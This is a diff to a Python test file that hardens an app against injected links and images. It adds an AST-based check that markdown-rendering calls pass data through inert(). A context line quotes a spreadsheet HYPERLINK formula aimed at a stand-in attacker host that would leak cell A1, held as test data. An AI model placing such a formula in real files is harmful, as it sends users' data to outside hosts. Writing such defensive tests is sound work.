@@ -143,3 +143,40 @@ def test_the_deck_carries_hostile_names_as_text_and_links_to_nothing(tmp_path: P
     assert not [n for n, text in parts.items() if 'TargetMode="External"' in text]  # nothing fetched or opened
     slides = "".join(text for n, text in parts.items() if n.startswith("ppt/slides/slide"))
     assert '=HYPERLINK("http://evil.invalid/?"&amp;A1,"klik")' in slides  # the name, as text (XML-escaped)
+
+
+RENDERS_MARKDOWN = {
+    "caption",
+    "markdown",
+    "info",
+    "warning",
+    "error",
+    "success",
+    "subheader",
+    "header",
+    "title",
+    "metric",
+}
+
+
+def test_every_text_a_page_renders_as_markdown_goes_through_inert() -> None:
+    """A new st.caption(...) with data in it must not bring images and links back: every such call says inert()."""
+    import ast
+
+    missing = []
+    for path in [*sorted((ROOT / "views").glob("*.py")), *sorted((ROOT / "ui").glob("*.py")), ROOT / "app.py"]:
+        source = path.read_text(encoding="utf-8")
+        for node in ast.walk(ast.parse(source)):
+            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
+                continue
+            owner = ast.get_source_segment(source, node.func.value) or ""
+            if node.func.attr not in RENDERS_MARKDOWN or owner in ("draw", "projector") or "log" in owner:
+                continue
+            if any(k.arg == "unsafe_allow_html" for k in node.keywords):  # our own CSS and HTML-escaped titles
+                continue
+            texts = [*node.args[:1], *(k.value for k in node.keywords if k.arg == "help")]
+            for text in texts:
+                segment = ast.get_source_segment(source, text) or ""
+                if "inert(" not in segment and segment != "None":
+                    missing.append(f"{path.name}:{node.lineno}: {segment[:60]}")
+    assert missing == []
